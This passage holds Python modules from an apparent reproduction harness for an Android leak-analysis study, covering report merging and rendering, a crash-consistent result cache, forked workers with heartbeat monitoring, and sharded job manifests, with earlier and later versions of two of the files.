      across eight workers invents a cache none of them has.  Each
      worker ships its registry's ``gauge_keys()`` in
      ``metrics_gauges``, so the merge needs no name heuristics;
    * **histogram summaries** merge component-wise: ``.count``/``.sum``
      add, ``.min``/``.max`` take min/max, and ``.mean``/percentiles
      are count-weighted averages (exact for the mean, the standard
      mergeable approximation for percentiles).

    With the whole list in hand, gauge declarations are collected in a
    pre-pass so a gauge name is never mistaken for a counter whatever
    the result order; the streaming fold gets the same guarantee from
    workers declaring their gauges on every result.
    """
    fold = _MetricsFold()
    for result in results:
        fold.declare_gauges(result.get("metrics_gauges", ()))
    for result in results:
        fold.add(result)
    return fold.finish()


def merge_spans(trace_dir: str) -> Dict:
    """Aggregate every per-process span spool under ``trace_dir``.

    Returns the fleet timeline (``flight.build_timeline`` shape):
    scheduler + worker + engine spans from every process, time-sorted
    and correlated by trace id, with SIGKILL-torn spools replayed to
    explicit open spans.
    """
    from repro.observability.flight import aggregate_trace_dir
    return aggregate_trace_dir(trace_dir)


def write_trace_artifacts(trace_dir: str,
                          out_dir: Optional[str] = None) -> Dict[str, str]:
    """Merge spools and write ``trace.json`` (Chrome trace-event JSON,
    Perfetto-loadable) + ``timeline.txt`` (rendered text timeline)."""
    from repro.observability import flight
    return flight.write_trace_artifacts(trace_dir, out_dir)


def merge_results(results: List[Dict], workers: int = 1,
                  wall_seconds: float = 0.0,
                  cached_jobs: int = 0,
                  health: Optional[Dict] = None) -> FarmReport:
    """Materialized merge: the list-shaped wrapper over the same fold."""
    fold = MergeFold()
    for result in results:
        fold.add(result)
    report = fold.finish(workers=workers, wall_seconds=wall_seconds,
                         cached_jobs=cached_jobs, health=health)
    report.merged_metrics = merge_metrics(results)  # order-proof gauges
    report.results = results
    report.job_count = 0
    report.completed_count = 0
    return report


def render_farm_report(report: FarmReport) -> str:
    lines = ["== farm ==",
             f"  jobs:    {report.jobs} "
             f"({report.cached_jobs} from cache)",
             f"  workers: {report.workers}",
             f"  wall:    {report.wall_seconds:.2f}s",
             f"  outcomes: " + ", ".join(
                 f"{name}={count}"
                 for name, count in sorted(report.outcomes.items()))]
    if report.health and report.health.get("workers_reclaimed"):
        lines.append(
            f"  health:  reclaimed={report.health['workers_reclaimed']} "
            f"(died={report.health.get('worker_deaths', 0)} "
            f"hung={report.health.get('hung_workers', 0)} "
            f"deadline={report.health.get('deadline_kills', 0)}) "
            f"retries={report.health.get('retries', 0)} "
            f"poison={report.health.get('poison_quarantined', 0)} "
            f"mttr={report.health.get('mean_time_to_reclaim_seconds', 0):.3f}s")
    lines += ["",
             f"  {'job':<30} {'status':<9} {'leaks':>5} "
             f"{'write':>6} {'send':>5} {'sendto':>7} "
             f"{'degraded':>9}  destinations"]
    rendered = 0
    for row in report.rows():
        if rendered >= MAX_RENDERED_ROWS:
            lines.append(f"  ... ({report.jobs - rendered} more jobs; "
                         f"see rows spool)")
            break
        sinks = row["sinks"]
        cached = "*" if row["cached"] else ""
        destinations = ", ".join(row["destinations"]) or "-"
        lines.append(
            f"  {row['id']:<30} {row['status'] + cached:<9} "
            f"{row['leaks']:>5} {sinks['write']:>6} {sinks['send']:>5} "
            f"{sinks['sendto']:>7} {row['degraded_events']:>9}  "
            f"{destinations}")
        rendered += 1
    lines.append("")
    if report.tombstones:
        lines.append("== tombstones ==")
        for job_id, tombstone in report.tombstones:
            lines.append(f"  {job_id}: {tombstone.get('error_type')}: "
                         f"{tombstone.get('error_message')}")
        lines.append("")
    lines.append(render_analysis_table(report.merged_metrics))
    return "\n".join(lines) + "\n"


def write_farm_artifacts(report: FarmReport, directory: str) -> List[str]:
    """Persist the merged farm artifacts; returns the paths written."""
    os.makedirs(directory, exist_ok=True)
    jobs_dir = os.path.join(directory, "jobs")
    merged_dir = os.path.join(directory, "merged")
    os.makedirs(jobs_dir, exist_ok=True)
    os.makedirs(merged_dir, exist_ok=True)
    written: List[str] = []

    def emit(path: str, payload, jsonl: Optional[List[str]] = None) -> None:
        with open(path, "w") as handle:
            if jsonl is not None:
                handle.write("\n".join(jsonl) + ("\n" if jsonl else ""))
            else:
                json.dump(payload, handle, indent=2)
                handle.write("\n")
        written.append(path)

    for result in report.results:
        job_id = result["job"]["id"].replace(":", "_").replace("/", "_")
        emit(os.path.join(jobs_dir, f"{job_id}.json"), result)

    emit(os.path.join(merged_dir, "metrics.json"), report.merged_metrics)
    trace_lines: List[str] = []
    for result in report.results:
        job_id = result["job"]["id"]
        for line in result.get("trace", []) or []:
            edge = json.loads(line)
            edge["job"] = job_id
            trace_lines.append(json.dumps(edge))
    if trace_lines:
        emit(os.path.join(merged_dir, "trace.jsonl"), None,
             jsonl=trace_lines)
    emit(os.path.join(merged_dir, "tombstones.json"),
         [{"job": job_id, **tombstone}
          for job_id, tombstone in report.tombstones])
    emit(os.path.join(directory, "farm.json"), report.to_dict())
    with open(os.path.join(directory, "report.txt"), "w") as handle:
        handle.write(render_farm_report(report))
    written.append(os.path.join(directory, "report.txt"))
    return written
