"""Digest-keyed result store: re-running an unchanged corpus is near-free.

One JSON file per result, named by the job's content digest.  A farm run
with ``--resume`` consults the store before dispatching: a hit replays
the recorded result without building a platform at all.

Writes are **crash-consistent**, not merely atomic-looking: the temp
file is fsync'd before the rename and the directory entry is fsync'd
after it, so a result that :meth:`put` returned from survives a
power-loss-style SIGKILL of the writer (farm workers commit their own
results and are chaos-killed on purpose).  Reads are **verified**: a
truncated or bit-damaged entry — and an entry whose recorded job digest
does not match its filename — is dropped and treated as a cache miss,
so the job re-runs instead of resuming from damage.
"""

from __future__ import annotations

import json
import os
from typing import Dict, List, Optional, Tuple


def fsync_directory(directory: str) -> None:
    """Flush a directory entry table to disk (best-effort off POSIX)."""
    try:
        fd = os.open(directory, os.O_RDONLY)
    except OSError:  # pragma: no cover - e.g. platforms without dir fds
        return
    try:
        os.fsync(fd)
    except OSError:  # pragma: no cover
        pass
    finally:
        os.close(fd)


def atomic_write_json(path: str, payload: Dict) -> None:
    """Commit ``payload`` at ``path`` so it is either absent or whole.

    write temp -> fsync temp -> rename -> fsync directory: the sequence
    a kill at any point leaves either no file, the old file, or the new
    complete file — never a torn one.  (A torn file can still *appear*
    if something truncates the committed entry afterwards; readers guard
    against that separately.)
    """
    temp = f"{path}.tmp.{os.getpid()}"
    with open(temp, "w") as handle:
        json.dump(payload, handle)
        handle.write("\n")
        handle.flush()
        os.fsync(handle.fileno())
    os.replace(temp, path)
    fsync_directory(os.path.dirname(path) or ".")


def read_verified_json(path: str, digest: Optional[str] = None
                       ) -> Optional[Dict]:
    """Load a committed result, or ``None`` if missing/torn/mismatched.

    When ``digest`` is given and the payload records a ``digest`` field,
    the two must agree — a partial overwrite that still parses as JSON
    (or a file renamed under the wrong key) reads as damage, not data.
    """
    try:
        with open(path) as handle:
            result = json.load(handle)
    except (FileNotFoundError, ValueError, OSError):
        return None
    if not isinstance(result, dict):
        return None
    if digest is not None and result.get("digest") not in (None, digest):
        return None
    return result


class ResultStore:
    """Content-addressed cache of completed farm job results."""

    def __init__(self, directory: str) -> None:
        self.directory = directory
        os.makedirs(directory, exist_ok=True)
        self.hits = 0
        self.misses = 0

    def _path(self, digest: str) -> str:
        return os.path.join(self.directory, f"{digest}.json")

    def __contains__(self, digest: str) -> bool:
        return os.path.exists(self._path(digest))

    def __len__(self) -> int:
        return sum(1 for name in os.listdir(self.directory)
                   if name.endswith(".json"))

    def get(self, digest: str) -> Optional[Dict]:
        path = self._path(digest)
        if not os.path.exists(path):
            self.misses += 1
            return None
        result = read_verified_json(path, digest=digest)
        if result is None:
            # Corrupt or mismatched entry: drop it and treat as a miss
            # so the job re-runs instead of resuming from damage.
            self.misses += 1
            try:
                os.unlink(path)
            except OSError:
                pass
            return None
        self.hits += 1
        return result

    def put(self, digest: str, result: Dict) -> None:
        atomic_write_json(self._path(digest), result)

    def digests(self) -> List[str]:
        return sorted(name[:-len(".json")]
                      for name in os.listdir(self.directory)
                      if name.endswith(".json"))

    def verify(self) -> Tuple[List[str], List[str]]:
        """Audit every entry; returns ``(good_digests, bad_digests)``.

        Non-destructive (unlike :meth:`get`, which drops damage on
        read): the chaos harness runs this after recovery to prove the
        store holds only whole, correctly-keyed results.
        """
        good: List[str] = []
        bad: List[str] = []
        for digest in self.digests():
            if read_verified_json(self._path(digest), digest=digest) is None:
                bad.append(digest)
            else:
                good.append(digest)
        return good, bad
