"""Digest-keyed result store: re-running an unchanged corpus is near-free.

One JSON file per result, named by the job's content digest.  A farm run
with ``--resume`` consults the store before dispatching: a hit replays
the recorded result without building a platform at all.  Writes go
through a temp-file rename so a worker killed mid-write never leaves a
truncated entry behind (a partial file would poison every later resume).
"""

from __future__ import annotations

import json
import os
from typing import Dict, List, Optional


class ResultStore:
    """Content-addressed cache of completed farm job results."""

    def __init__(self, directory: str) -> None:
        self.directory = directory
        os.makedirs(directory, exist_ok=True)
        self.hits = 0
        self.misses = 0

    def _path(self, digest: str) -> str:
        return os.path.join(self.directory, f"{digest}.json")

    def __contains__(self, digest: str) -> bool:
        return os.path.exists(self._path(digest))

    def __len__(self) -> int:
        return sum(1 for name in os.listdir(self.directory)
                   if name.endswith(".json"))

    def get(self, digest: str) -> Optional[Dict]:
        path = self._path(digest)
        try:
            with open(path) as handle:
                result = json.load(handle)
        except FileNotFoundError:
            self.misses += 1
            return None
        except (ValueError, OSError):
            # Corrupt entry: drop it and treat as a miss so the job
            # re-runs instead of resuming from damage.
            self.misses += 1
            try:
                os.unlink(path)
            except OSError:
                pass
            return None
        self.hits += 1
        return result

    def put(self, digest: str, result: Dict) -> None:
        path = self._path(digest)
        temp = f"{path}.tmp.{os.getpid()}"
        with open(temp, "w") as handle:
            json.dump(result, handle)
            handle.write("\n")
        os.replace(temp, path)

    def digests(self) -> List[str]:
        return sorted(name[:-len(".json")]
                      for name in os.listdir(self.directory)
                      if name.endswith(".json"))
