"""Worker health: fork, heartbeat, detect hung-vs-dead, reclaim.

The old pool (``concurrent.futures``) could only learn about a worker
*after* the fact — a dead process surfaced as a broken future, and a
hung one never surfaced at all.  At market-study scale (the paper's
Section III covers 227,911 APKs) both are the steady state, so the farm
now owns its workers directly:

* each job runs in a **forked child** that commits its result with the
  store's crash-consistent write and then ``_exit``\\ s — no interpreter
  teardown, no shared descriptors flushed twice;
* a **heartbeat thread** in the child stamps a per-job heartbeat file
  every ``interval`` seconds.  A SIGSTOP'd or livelocked worker stops
  stamping, so the scheduler can tell *hung* (alive but silent — reap
  it) from merely *busy* (stamping away — leave it alone), which no
  exit-status channel can express;
* the pool reaps with ``waitpid(WNOHANG)``, SIGKILLs workers that miss
  ``miss_threshold`` consecutive heartbeats or outlive the per-job
  wall-clock deadline, and reports every reclaim with the time elapsed
  since the worker's last proof of life.

:class:`HealthStats` aggregates the whole fault-tolerance story
(reclaims by cause, retries, quarantines, mean time to reclaim) for the
merged farm report and the observability metrics registry.
"""

from __future__ import annotations

import os
import signal
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

HEARTBEAT_INTERVAL = 0.05
MISS_THRESHOLD = 4      # consecutive missed heartbeats before "hung"


def stamp_heartbeat(path: str, digest: str = "",
                    instructions: int = 0) -> None:
    """Record proof of life; the mtime is the signal, the body is debug.

    The body carries *what* the worker is doing, not just that it beats:
    the current job digest and the emulator's instruction count at stamp
    time, so ``--watch`` and hung-worker tombstones can show a frozen
    counter instead of a bare pid.
    """
    with open(path, "w") as handle:
        handle.write(f"{os.getpid()} {time.time():.6f} "
                     f"{digest or '-'} {instructions}\n")


def parse_heartbeat(path: str) -> Optional[Dict]:
    """Decode a heartbeat body; tolerant of the pre-enrichment format."""
    try:
        with open(path) as handle:
            fields = handle.read().split()
    except OSError:
        return None
    if len(fields) < 2:
        return None
    try:
        beat = {"pid": int(fields[0]), "stamped": float(fields[1]),
                "digest": "", "instructions": 0}
    except ValueError:
        return None
    if len(fields) >= 3 and fields[2] != "-":
        beat["digest"] = fields[2]
    if len(fields) >= 4:
        try:
            beat["instructions"] = int(fields[3])
        except ValueError:
            pass
    return beat


class _HeartbeatThread(threading.Thread):
    """Daemon thread stamping a heartbeat file until the process exits.

    ``vitals`` (optional) is polled at each stamp for the live
    ``(digest, instruction_count)`` pair; it must never raise and never
    block — ours reads two plain attributes off the worker's platform.
    """

    def __init__(self, path: str, interval: float,
                 vitals: Optional[Callable[[], Tuple[str, int]]] = None
                 ) -> None:
        super().__init__(name="farm-heartbeat", daemon=True)
        self.path = path
        self.interval = interval
        self.vitals = vitals
        self._stop = threading.Event()

    def run(self) -> None:
        while not self._stop.wait(self.interval):
            digest, instructions = "", 0
            if self.vitals is not None:
                try:
                    digest, instructions = self.vitals()
                except Exception:  # pragma: no cover - vitals must not kill
                    pass
            try:
                stamp_heartbeat(self.path, digest, instructions)
            except OSError:  # pragma: no cover - hb dir vanished
                return


def run_worker(spec_dict: Dict, budget: Optional[int], hb_path: str,
               interval: float, commit: Callable[[Dict], None],
               spool_path: Optional[str] = None, trace_id: str = "",
               digest: str = "") -> None:
    """Body of a forked farm worker; commits a result, then the caller
    must ``_exit``.

    ``execute_job`` is resolved through the module at call time (not
    imported at module load) so tests can monkeypatch it in the parent
    and have the fork inherit the patch.  With ``spool_path`` set, the
    worker opens its own post-fork :class:`SpanTracer` spool (no shared
    descriptors) and traces the job + store commit.
    """
    from repro.farm import worker as worker_module

    def vitals() -> Tuple[str, int]:
        platform = worker_module.LIVE.get("platform")
        instructions = (platform.emu.instruction_count
                        if platform is not None else 0)
        return digest, instructions

    stamp_heartbeat(hb_path, digest)
    beat = _HeartbeatThread(hb_path, interval, vitals=vitals)
    beat.start()
    if spool_path is None:
        # No tracer kwarg on this path: tests monkeypatch execute_job
        # with narrower signatures, and the fork inherits the patch.
        result = worker_module.execute_job(spec_dict, budget=budget)
        commit(result)
        return
    from repro.observability.flight import FlightSpool
    from repro.observability.spans import SpanTracer
    tracer = SpanTracer(spool=FlightSpool(spool_path), trace_id=trace_id)
    result = worker_module.execute_job(spec_dict, budget=budget,
                                       tracer=tracer)
    with tracer.span("store_commit", cat="worker"):
        commit(result)
    tracer.close()


@dataclass
class WorkerHandle:
    """One live forked worker, as the scheduler sees it."""

    pid: int
    index: int                  # manifest index of the job it serves
    digest: str
    job_id: str
    attempt: int
    hb_path: str
    spawned_monotonic: float
    spawned_wall: float

    def heartbeat_age(self, now_wall: float) -> float:
        """Seconds since the last proof of life (spawn counts as one)."""
        try:
            last = os.stat(self.hb_path).st_mtime
        except OSError:
            last = self.spawned_wall
        return max(0.0, now_wall - last)

    def runtime(self, now_monotonic: float) -> float:
        return now_monotonic - self.spawned_monotonic

    def read_vitals(self) -> Optional[Dict]:
        """The worker's last self-reported digest + instruction count."""
        return parse_heartbeat(self.hb_path)


class WorkerPool:
    """Fork/monitor/reap for farm workers; policy stays in the scheduler."""

    def __init__(self, hb_dir: str, interval: float = HEARTBEAT_INTERVAL,
                 miss_threshold: int = MISS_THRESHOLD) -> None:
        self.hb_dir = hb_dir
        self.interval = interval
        self.miss_threshold = miss_threshold
        self.live: Dict[int, WorkerHandle] = {}
        os.makedirs(hb_dir, exist_ok=True)

    # -- spawn ----------------------------------------------------------------

    def spawn(self, spec_dict: Dict, budget: Optional[int], index: int,
              digest: str, job_id: str, attempt: int,
              commit: Callable[[Dict], None],
              spool_path: Optional[str] = None,
              trace_id: str = "") -> WorkerHandle:
        hb_path = os.path.join(self.hb_dir, digest)
        # A stale heartbeat from a previous attempt must not vouch for
        # the new worker.
        stamp_heartbeat(hb_path, digest)
        pid = os.fork()
        if pid == 0:
            code = 1
            try:
                run_worker(spec_dict, budget, hb_path, self.interval, commit,
                           spool_path=spool_path, trace_id=trace_id,
                           digest=digest)
                code = 0
            except BaseException:
                code = 1
            finally:
                # Skip every parent-inherited atexit/teardown path: the
                # child must vanish without flushing shared state.
                os._exit(code)
        handle = WorkerHandle(pid=pid, index=index, digest=digest,
                              job_id=job_id, attempt=attempt,
                              hb_path=hb_path,
                              spawned_monotonic=time.monotonic(),
                              spawned_wall=time.time())
        self.live[pid] = handle
        return handle

    # -- observe --------------------------------------------------------------

    def reap(self) -> List[Tuple[WorkerHandle, int]]:
        """Collect exited workers; yields ``(handle, status)`` where
        status is the exit code for clean exits and ``-signum`` for
        signal deaths."""
        finished: List[Tuple[WorkerHandle, int]] = []
        for pid in list(self.live):
            try:
                reaped, raw = os.waitpid(pid, os.WNOHANG)
            except ChildProcessError:  # pragma: no cover - reaped elsewhere
                reaped, raw = pid, 1 << 8
            if reaped == 0:
                continue
            handle = self.live.pop(pid)
            if os.WIFSIGNALED(raw):
                status = -os.WTERMSIG(raw)
            else:
                status = os.WEXITSTATUS(raw)
            finished.append((handle, status))
        return finished

    def hung(self, now_wall: Optional[float] = None) -> List[WorkerHandle]:
        now_wall = time.time() if now_wall is None else now_wall
        limit = self.interval * self.miss_threshold
        return [handle for handle in self.live.values()
                if handle.heartbeat_age(now_wall) > limit]

    def overdue(self, deadline: Optional[float],
                now_monotonic: Optional[float] = None) -> List[WorkerHandle]:
        if deadline is None:
            return []
        now_monotonic = time.monotonic() if now_monotonic is None \
            else now_monotonic
        return [handle for handle in self.live.values()
                if handle.runtime(now_monotonic) > deadline]

    # -- reclaim --------------------------------------------------------------

    def kill(self, handle: WorkerHandle) -> None:
        """SIGKILL one worker and reap it synchronously.

        SIGKILL (not SIGTERM) on purpose: a hung worker by definition
        is not scheduling our code, and SIGKILL also fells SIGSTOP'd
        processes, which no catchable signal does.
        """
        self.live.pop(handle.pid, None)
        try:
            os.kill(handle.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        try:
            os.waitpid(handle.pid, 0)
        except ChildProcessError:
            pass

    def kill_all(self) -> None:
        for handle in list(self.live.values()):
            self.kill(handle)


@dataclass
class HealthStats:
    """The farm's fault-tolerance counters, one place."""

    worker_deaths: int = 0      # exited nonzero / died to a signal
    hung_workers: int = 0       # missed heartbeats -> SIGKILLed
    deadline_kills: int = 0     # outlived the per-job wall-clock deadline
    torn_results: int = 0       # committed result failed verification
    retries: int = 0            # strikes requeued with backoff
    poison_quarantined: int = 0
    lost_jobs: int = 0
    interrupted_jobs: int = 0
    reclaim_seconds: List[float] = field(default_factory=list)

    @property
    def workers_reclaimed(self) -> int:
        return self.worker_deaths + self.hung_workers + self.deadline_kills

    def record_reclaim(self, seconds: float) -> None:
        self.reclaim_seconds.append(max(0.0, seconds))

    def mean_time_to_reclaim(self) -> float:
        if not self.reclaim_seconds:
            return 0.0
        return sum(self.reclaim_seconds) / len(self.reclaim_seconds)

    def summary(self) -> Dict[str, float]:
        return {
            "workers_reclaimed": self.workers_reclaimed,
            "worker_deaths": self.worker_deaths,
            "hung_workers": self.hung_workers,
            "deadline_kills": self.deadline_kills,
            "torn_results": self.torn_results,
            "retries": self.retries,
            "poison_quarantined": self.poison_quarantined,
            "lost_jobs": self.lost_jobs,
            "interrupted_jobs": self.interrupted_jobs,
            "mean_time_to_reclaim_seconds": self.mean_time_to_reclaim(),
        }

    def register_metrics(self, registry) -> None:
        """Expose the summary as a pull source on a MetricsRegistry."""
        registry.register_source("farm.health", self.summary)
