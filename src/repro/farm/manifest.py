"""Farm job manifests: what to analyse, keyed by content digest.

A manifest is an ordered list of :class:`JobSpec` rows.  Each spec is a
pure value — no callables, no platform state — so it pickles across the
worker-pool boundary and hashes deterministically: :meth:`JobSpec.digest`
is a sha256 over the canonical JSON form plus the farm schema version,
and the result store uses that digest as its cache key.  Re-running an
unchanged manifest therefore costs one digest computation per job.

``Manifest.builtin()`` covers the paper's full built-in corpus: the
Table I / case-study scenarios plus the eight Section VI market apps.

Paper-scale corpora do not fit that shape: the Section III study covers
227,911 APKs, and a list-of-dicts manifest for even a tenth of that
should never materialize in one process.  Two pieces handle the scale:

* :func:`iter_corpus_jobs` streams ``corpus``-kind JobSpecs — each one
  classifies a contiguous chunk of the calibrated synthetic corpus,
  reconstructed in the worker from ``(seed, scale, target, chunk)``
  alone (the generator is addressable, so a chunk never replays its
  prefix);
* :class:`ShardedManifest` spools any JobSpec stream into fixed-size
  JSONL shard files plus a small index.  Shard contents are
  digest-stable (same jobs => byte-identical shards => same sha256), the
  index alone answers ``len()``, and iteration loads one shard at a
  time.
"""

from __future__ import annotations

import hashlib
import json
import os
from dataclasses import asdict, dataclass, field
from typing import Dict, Iterable, Iterator, List, Optional

# Bump when the worker's result payload or the job semantics change:
# every cached result keyed under the old version becomes unreachable.
# v2: corpus-kind jobs + the scale/chunk spec fields.
FARM_SCHEMA_VERSION = 2

JOB_KINDS = ("scenario", "market", "corpus")

SHARD_INDEX_NAME = "index.json"
DEFAULT_SHARD_SIZE = 1024


@dataclass(frozen=True)
class JobSpec:
    """One unit of farm work: analyse one app under one configuration.

    ``corpus`` jobs analyse a chunk of the synthetic Section III corpus
    instead of a single app: ``target`` is the starting stream position,
    ``chunk`` the record count, and ``seed``/``scale`` parameterize the
    generator the worker rebuilds.
    """

    id: str
    kind: str                       # "scenario" | "market" | "corpus"
    target: str                     # scenario name, market package, or
                                    # corpus stream offset
    config: str = "ndroid"
    seed: int = 0
    events: int = 12                # Monkey events (market jobs only)
    faults: Optional[str] = None    # FaultPlan atom string, or None
    trace: bool = False
    scale: float = 1.0              # corpus jobs: generator scale factor
    chunk: int = 1                  # corpus jobs: records in this chunk

    def __post_init__(self) -> None:
        if self.kind not in JOB_KINDS:
            raise ValueError(f"unknown job kind {self.kind!r} "
                             f"(expected one of {JOB_KINDS})")

    def to_dict(self) -> Dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: Dict) -> "JobSpec":
        known = {f for f in cls.__dataclass_fields__}
        return cls(**{k: v for k, v in data.items() if k in known})

    def digest(self) -> str:
        """Content digest: identical spec => identical key, any change
        to the spec (or the farm schema) => a different key."""
        canonical = json.dumps(
            {"schema": FARM_SCHEMA_VERSION, **self.to_dict()},
            sort_keys=True, separators=(",", ":"))
        return hashlib.sha256(canonical.encode()).hexdigest()


def iter_corpus_jobs(scale: float, seed: int = 2014,
                     chunk: int = 16) -> Iterator[JobSpec]:
    """Stream the corpus-classification jobs for one calibrated corpus.

    Yields one ``corpus`` JobSpec per ``chunk`` records, covering the
    whole scaled corpus exactly once.  Never materializes the records —
    only the generator's apportionment plan is consulted for the total.
    """
    from repro.corpus.generator import CorpusGenerator

    total = len(CorpusGenerator(seed=seed, scale=scale))
    chunk = max(1, chunk)
    for start in range(0, total, chunk):
        yield JobSpec(id=f"corpus:{start}", kind="corpus",
                      target=str(start), seed=seed, scale=scale,
                      chunk=min(chunk, total - start))


@dataclass
class Manifest:
    """An ordered corpus of farm jobs."""

    jobs: List[JobSpec] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.jobs)

    def __iter__(self) -> Iterator[JobSpec]:
        return iter(self.jobs)

    def shard(self, workers: int) -> List[List[JobSpec]]:
        """Round-robin job assignment across ``workers`` shards.

        Used for accounting/display; the pool itself steals work
        dynamically, so a slow job never serialises its whole shard.
        """
        workers = max(1, workers)
        shards: List[List[JobSpec]] = [[] for _ in range(workers)]
        for index, job in enumerate(self.jobs):
            shards[index % workers].append(job)
        return shards

    def to_dict(self) -> Dict:
        return {"schema": FARM_SCHEMA_VERSION,
                "jobs": [job.to_dict() for job in self.jobs]}

    @classmethod
    def from_dict(cls, data: Dict) -> "Manifest":
        return cls(jobs=[JobSpec.from_dict(row)
                         for row in data.get("jobs", [])])

    def save(self, path: str) -> None:
        with open(path, "w") as handle:
            json.dump(self.to_dict(), handle, indent=2)
            handle.write("\n")

    @classmethod
    def load(cls, source: str, **overrides):
        """``"builtin"``, a manifest JSON path, or a sharded-manifest
        directory (one holding ``index.json``)."""
        if source == "builtin":
            return cls.builtin(**overrides)
        if os.path.isdir(source):
            return ShardedManifest.load(source)
        with open(source) as handle:
            return cls.from_dict(json.load(handle))

    @classmethod
    def builtin(cls, config: str = "ndroid", seed: int = 0,
                events: int = 12, trace: bool = False) -> "Manifest":
        """The full built-in corpus: every scenario + every market app."""
        from repro.apps import ALL_SCENARIOS
        from repro.apps.market import MARKET_APPS
        jobs = [JobSpec(id=f"scenario:{name}", kind="scenario", target=name,
                        config=config, seed=seed, trace=trace)
                for name in ALL_SCENARIOS]
        jobs += [JobSpec(id=f"market:{package}", kind="market",
                         target=package, config=config, seed=seed,
                         events=events, trace=trace)
                 for package in MARKET_APPS]
        return cls(jobs=jobs)


@dataclass(frozen=True)
class ShardInfo:
    """One shard file as the index records it."""

    name: str           # file name within the manifest directory
    jobs: int           # JobSpec lines in the shard
    digest: str         # sha256 of the shard file's bytes

    def to_dict(self) -> Dict:
        return {"name": self.name, "jobs": self.jobs,
                "digest": self.digest}


class ShardedManifest:
    """A manifest spooled across fixed-size JSONL shard files.

    The index (``index.json``) is the only part a process must hold:
    shard names, per-shard job counts, and per-shard content digests.
    Jobs are assigned to shards in stream order, so identical job
    streams produce byte-identical shards — the digests are stable
    across runs and machines, and a resumed run can trust that a shard
    name still means the same work.
    """

    def __init__(self, directory: str, shards: List[ShardInfo],
                 shard_size: int) -> None:
        self.directory = directory
        self.shards = shards
        self.shard_size = shard_size

    def __len__(self) -> int:
        return sum(shard.jobs for shard in self.shards)

    def __iter__(self) -> Iterator[JobSpec]:
        for index in range(len(self.shards)):
            yield from self.iter_shard(index)

    @property
    def shard_count(self) -> int:
        return len(self.shards)

    def shard_path(self, index: int) -> str:
        return os.path.join(self.directory, self.shards[index].name)

    def iter_shard(self, index: int) -> Iterator[JobSpec]:
        """Lazily yield one shard's specs (one shard in memory at most)."""
        with open(self.shard_path(index)) as handle:
            for line in handle:
                line = line.strip()
                if line:
                    yield JobSpec.from_dict(json.loads(line))

    def verify_shard(self, index: int) -> bool:
        """Re-hash one shard file against its recorded digest."""
        digest = hashlib.sha256()
        try:
            with open(self.shard_path(index), "rb") as handle:
                for block in iter(lambda: handle.read(1 << 16), b""):
                    digest.update(block)
        except OSError:
            return False
        return digest.hexdigest() == self.shards[index].digest

    def to_dict(self) -> Dict:
        return {"schema": FARM_SCHEMA_VERSION,
                "shard_size": self.shard_size,
                "total_jobs": len(self),
                "shards": [shard.to_dict() for shard in self.shards]}

    @classmethod
    def write(cls, directory: str, specs: Iterable[JobSpec],
              shard_size: int = DEFAULT_SHARD_SIZE) -> "ShardedManifest":
        """Spool a JobSpec stream into shard files plus an index.

        Consumes ``specs`` incrementally — a 100k-job stream passes
        through one spec at a time.  Each shard is written whole and
        hashed as it goes; the index is committed last, so a torn write
        leaves either a loadable manifest or none.
        """
        os.makedirs(directory, exist_ok=True)
        shard_size = max(1, shard_size)
        shards: List[ShardInfo] = []
        handle = None
        hasher = None
        count = 0

        def close_shard() -> None:
            nonlocal handle
            if handle is None:
                return
            handle.close()
            shards.append(ShardInfo(name=name, jobs=count,
                                    digest=hasher.hexdigest()))
            handle = None

        for spec in specs:
            if handle is None:
                name = f"shard-{len(shards):05d}.jsonl"
                handle = open(os.path.join(directory, name), "w")
                hasher = hashlib.sha256()
                count = 0
            line = json.dumps(spec.to_dict(), sort_keys=True,
                              separators=(",", ":")) + "\n"
            handle.write(line)
            hasher.update(line.encode())
            count += 1
            if count >= shard_size:
                close_shard()
        close_shard()

        manifest = cls(directory, shards, shard_size)
        index_temp = os.path.join(directory, f"{SHARD_INDEX_NAME}.tmp")
        with open(index_temp, "w") as index_handle:
            json.dump(manifest.to_dict(), index_handle, indent=2)
            index_handle.write("\n")
        os.replace(index_temp, os.path.join(directory, SHARD_INDEX_NAME))
        return manifest

    @classmethod
    def load(cls, directory: str) -> "ShardedManifest":
        index_path = os.path.join(directory, SHARD_INDEX_NAME)
        with open(index_path) as handle:
            data = json.load(handle)
        shards = [ShardInfo(name=row["name"], jobs=row["jobs"],
                            digest=row["digest"])
                  for row in data.get("shards", [])]
        return cls(directory, shards,
                   data.get("shard_size", DEFAULT_SHARD_SIZE))
