"""Farm job manifests: what to analyse, keyed by content digest.

A manifest is an ordered list of :class:`JobSpec` rows.  Each spec is a
pure value — no callables, no platform state — so it pickles across the
worker-pool boundary and hashes deterministically: :meth:`JobSpec.digest`
is a sha256 over the canonical JSON form plus the farm schema version,
and the result store uses that digest as its cache key.  Re-running an
unchanged manifest therefore costs one digest computation per job.

``Manifest.builtin()`` covers the paper's full built-in corpus: the
Table I / case-study scenarios plus the eight Section VI market apps.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import asdict, dataclass, field
from typing import Dict, Iterator, List, Optional

# Bump when the worker's result payload or the job semantics change:
# every cached result keyed under the old version becomes unreachable.
FARM_SCHEMA_VERSION = 1

JOB_KINDS = ("scenario", "market")


@dataclass(frozen=True)
class JobSpec:
    """One unit of farm work: analyse one app under one configuration."""

    id: str
    kind: str                       # "scenario" | "market"
    target: str                     # scenario name or market package
    config: str = "ndroid"
    seed: int = 0
    events: int = 12                # Monkey events (market jobs only)
    faults: Optional[str] = None    # FaultPlan atom string, or None
    trace: bool = False

    def __post_init__(self) -> None:
        if self.kind not in JOB_KINDS:
            raise ValueError(f"unknown job kind {self.kind!r} "
                             f"(expected one of {JOB_KINDS})")

    def to_dict(self) -> Dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: Dict) -> "JobSpec":
        known = {f for f in cls.__dataclass_fields__}
        return cls(**{k: v for k, v in data.items() if k in known})

    def digest(self) -> str:
        """Content digest: identical spec => identical key, any change
        to the spec (or the farm schema) => a different key."""
        canonical = json.dumps(
            {"schema": FARM_SCHEMA_VERSION, **self.to_dict()},
            sort_keys=True, separators=(",", ":"))
        return hashlib.sha256(canonical.encode()).hexdigest()


@dataclass
class Manifest:
    """An ordered corpus of farm jobs."""

    jobs: List[JobSpec] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.jobs)

